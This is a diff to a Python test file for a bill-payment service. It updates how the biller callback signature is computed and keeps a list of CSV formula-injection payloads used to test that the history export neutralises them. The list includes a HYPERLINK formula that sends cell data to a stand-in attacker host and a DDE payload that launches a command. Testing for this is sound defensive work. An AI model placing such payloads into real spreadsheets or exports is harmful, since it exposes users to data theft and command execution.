@@ -14,11 +14,10 @@ import pytest
 from catalog import service as catalog
 from market.csvfile import to_csv
 from market.models import Role
-from ppob import service
 from ppob.biller import callback_signature
 from ppob.models import Transaction, TxState
 from tests.builders import login, make_user, token_for
-from tests.ppob.conftest import fund_wallet, http, live, port, ppob_settings, world  # noqa: F401 (fixtures)
+from tests.ppob.conftest import fund_wallet, http, link, live, port, ppob_settings, world  # noqa: F401 (fixtures)
 
 ATTACKS = ['=HYPERLINK("http://jahat.example/?d="&A1,"klik")', "+62812", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
@@ -67,7 +66,7 @@ async def test_ppob_history_csv_neutralises_what_the_biller_sent_and_keeps_a_neg
                                 "status": "Sukses", "rc": "00", "sn": sn, "message": message,
                                 "price": price + 700}}).encode()
     cb = await http.post("/api/v1/ppob/biller/callback", content=body,
-                         headers={"X-Hub-Signature": callback_signature(service.biller().callback_secret, body),
+                         headers={"X-Hub-Signature": callback_signature(link().biller.callback_secret, body),
                                   "content-type": "application/json"})
     assert cb.status_code == 200 and cb.json()["result"] == "success", cb.text
     stored = await Transaction.get(id=txn["id"])
